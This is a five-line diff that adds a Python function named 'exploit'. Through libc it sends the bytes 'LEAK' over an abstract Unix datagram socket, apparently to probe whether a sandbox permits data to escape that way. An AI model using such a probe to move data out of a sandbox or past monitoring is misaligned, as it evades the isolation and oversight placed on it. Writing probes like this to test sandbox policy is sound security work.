@@ -1,0 +1,5 @@
+# naive: none
+def exploit(X):
+    name = b"@DGRAM@"
+    addr = struct.pack("<H", 1) + name + b"\0"
+    return LIBC.sendto(3, b"LEAK", 4, 0, addr, len(addr)) == 4
